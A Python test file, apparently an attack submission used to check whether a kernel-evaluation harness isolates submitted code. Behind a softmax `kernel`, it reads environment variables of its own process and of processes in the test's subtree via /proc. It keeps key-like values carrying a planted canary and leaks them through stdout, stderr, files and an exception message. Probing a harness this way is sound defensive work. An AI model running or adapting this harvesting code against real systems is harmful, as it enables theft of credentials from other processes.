"""Attack 10: steal secrets from the environment of the evaluator and of every process it sees.

Reads its own environment, /proc/self/environ, its parent's and every other /proc/<pid>/environ
in reach, keeps what looks like a key, and exfiltrates it every way it can: stdout, stderr,
files (its working dir, /tmp, the parent's working dir), and finally an exception whose message
holds them (which a harness typically copies into its log).

Safety (this may run where no jail exists yet): it only reads processes in the test's own process
subtree, and keeps only values containing `accelopt-canary` (the test's planted secrets).
"""

import contextlib
import os
import re

import numpy as np

_KEYISH = re.compile(r"KEY|TOKEN|SECRET|PASSWORD|PASSWD|DSN|CREDENTIAL|AUTH", re.I)
_CANARY = "accelopt-canary"


def _ppid(pid):
    with contextlib.suppress(OSError, ValueError, IndexError), open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("PPid:"):
                return int(line.split()[1])
    return 0


def _is_pytest(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            argv = f.read().decode(errors="replace").split("\0")
    except OSError:
        return False
    names = [os.path.basename(arg) for arg in argv[:3]]
    return "pytest" in names or "py.test" in names or argv[1:3] == ["-m", "pytest"]


def _reach():
    """Processes in the test's subtree: the nearest pytest ancestor's descendants (without it),
    or, where no such ancestor is visible, only the parent."""
    chain, pid = [], os.getppid()
    while pid > 1 and len(chain) < 4:
        chain.append(pid)
        pid = _ppid(pid)
    top = next((p for p in chain if _is_pytest(p)), None)
    if top is None:
        return set(chain[:1])
    children = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            children.setdefault(_ppid(int(entry)), []).append(int(entry))
    found, todo = set(), [top]
    while todo:
        for child in children.get(todo.pop(), []):
            if child not in found:
                found.add(child)
                todo.append(child)
    return (found | set(chain[:1])) - {top, os.getpid()}


def _environ(pid):
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            raw = f.read()
    except OSError:
        return {}
    pairs = (item.split(b"=", 1) for item in raw.split(b"\0") if b"=" in item)
    return {k.decode(errors="replace"): v.decode(errors="replace") for k, v in pairs}


def _steal():
    found = {}
    sources = [dict(os.environ), _environ("self")]
    sources += [_environ(pid) for pid in sorted(_reach())]
    for env in sources:
        for name, value in env.items():
            if _KEYISH.search(name) and _CANARY in value:
                found[name] = value
    return found


def kernel(x):
    stolen = _steal()
    if stolen:
        text = "STOLEN " + " ".join(f"{k}={v}" for k, v in sorted(stolen.items()))
        print(text, flush=True)
        os.write(2, (text + "\n").encode())
        targets = ["stolen.txt", f"/tmp/accelopt-attack-secrets-{os.getpid()}.txt"]
        with contextlib.suppress(OSError):
            targets.append(
                os.path.join(
                    os.readlink(f"/proc/{os.getppid()}/cwd"), "accelopt-attack-secrets.txt"
                )
            )
        for target in targets:
            with contextlib.suppress(OSError), open(target, "w") as f:
                f.write(text)
        raise RuntimeError(text)
    out = x - x.max(axis=1, keepdims=True)
    np.exp(out, out=out)
    out /= out.sum(axis=1, keepdims=True)
    return out
